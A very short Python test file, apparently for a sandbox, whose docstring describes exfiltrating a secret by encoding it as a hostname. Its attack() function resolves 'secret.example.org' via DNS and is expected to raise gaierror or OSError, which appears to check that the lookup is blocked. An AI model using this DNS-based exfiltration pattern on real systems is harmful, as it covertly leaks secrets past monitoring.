"""Carry a secret out as the name of a host.

ends: raised
says: gaierror|OSError
"""

import socket


def attack(bait):
    return socket.getaddrinfo("secret.example.org", 80)
